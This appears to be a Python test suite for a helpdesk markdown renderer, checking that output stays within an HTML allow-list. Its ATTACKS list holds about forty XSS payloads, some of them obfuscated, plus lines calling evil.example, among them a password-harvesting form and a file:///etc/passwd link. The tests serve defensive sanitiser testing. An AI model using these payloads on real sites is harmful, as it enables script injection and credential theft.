"""What a jurist types is shown; nothing of it is ever run."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.markdown import MAX_CHARS, render

ALLOWED_TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "a", "span", "sup"}
ALLOWED_ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start"), ("span", "class")}


class Reader(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update((tag, name) for name, _ in attrs)
        self.addresses.extend(value or "" for name, value in attrs if name == "href")


def assert_harmless(html: str) -> None:
    seen = Reader(html)
    assert seen.tags <= ALLOWED_TAGS
    assert seen.attributes <= ALLOWED_ATTRIBUTES
    assert all(re.match(r"https?://", address) for address in seen.addresses)


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Bonjour.\n\nUne suite.", "<p>Bonjour.</p>\n<p>Une suite.</p>\n"),
        ("Une ligne\nla suivante", "<p>Une ligne<br>\nla suivante</p>\n"),
        ("**gras** et *penché*", "<p><strong>gras</strong> et <em>penché</em></p>\n"),
        ("- un\n- deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>\n"),
        ("1. un\n2. deux", "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>\n"),
        ("3. trois", '<ol start="3">\n<li>trois</li>\n</ol>\n'),
        (
            "[le code](https://www.legifrance.gouv.fr/codes)",
            '<p><a href="https://www.legifrance.gouv.fr/codes" rel="noopener noreferrer nofollow">le code</a></p>\n',
        ),
        ("", ""),
    ],
)
def test_the_small_set_is_understood(typed: str, shown: str) -> None:
    assert render(typed) == shown


@pytest.mark.parametrize(
    "typed", ["# Titre", "> citation", "`code`", "![image](https://x.fr/a.png)", "a | b\n--|--", "***"]
)
def test_the_rest_is_shown_as_typed(typed: str) -> None:
    html = render(typed)
    assert Reader(html).tags <= {"p", "br", "a"}
    assert "<img" not in html


def test_french_typography_reaches_the_text_and_not_the_addresses() -> None:
    html = render("L'article L. 1243-6 : voir [ici ?](https://x.fr/?a=1&b=2)")
    assert "L’<span" in html
    assert 'href="https://x.fr/?a=1&amp;b=2"' in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<object data=x></object><embed src=x>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/deconnexion)",
    "[x](mailto:a@example.org)",
    "[x](https://x.fr 'onmouseover=alert(1)')",
    '[x](https://x.fr"onmouseover="alert(1))',
    '[x](<https://x.fr" onclick="alert(1)>)',
    "[<img src=x onerror=alert(1)>](https://x.fr)",
    "![x](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "<https://x.fr><javascript:alert(1)>",
    "**<b onclick=alert(1)>**",
    "x\x00<script>\x00alert(1)</script>",
    "\ue000<script>\ue002",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text(attack: str) -> None:
    for text in (attack, f"- {attack}", f"Avant {attack} après", f"**{attack}**"):
        assert_harmless(render(text))


@given(st.text(alphabet=st.sampled_from(list("ab<>[]()*_-1. \n\"'&;:/#!`\\\t=javscripthtp\x00"))) | st.text())
def test_no_text_whatever_escapes_the_allow_list(text: str) -> None:
    assert_harmless(render(text))


PIECES = [
    "a",
    " ",
    "\n",
    "*",
    "**a",
    "_",
    "[",
    "](",
    "[a](",
    "- ",
    "1. ",
    "\\",
    "<",
    "&",
    "[a](b)",
    "- a\n",
    "\t",
    "> ",
]


@pytest.mark.parametrize("piece", PIECES)
def test_a_long_text_of_anything_is_rendered(piece: str) -> None:
    assert_harmless(render(piece * (20_000 // len(piece))))


PLAIN = {"p", "br", "span", "sup"}


@pytest.mark.parametrize("piece", PIECES)
def test_a_text_past_the_limit_is_shown_without_markup(piece: str) -> None:
    html = render(piece * (MAX_CHARS // len(piece) + 1))
    assert Reader(html).tags <= PLAIN


def test_a_megabyte_is_shown_without_markup() -> None:
    html = render("".join(piece * (1_000_000 // len(PIECES) // len(piece)) for piece in PIECES))
    assert Reader(html).tags <= PLAIN


def test_lists_in_lists_stop_somewhere() -> None:
    assert_harmless(render("\n".join(" " * (2 * depth) + "- a" for depth in range(300))))
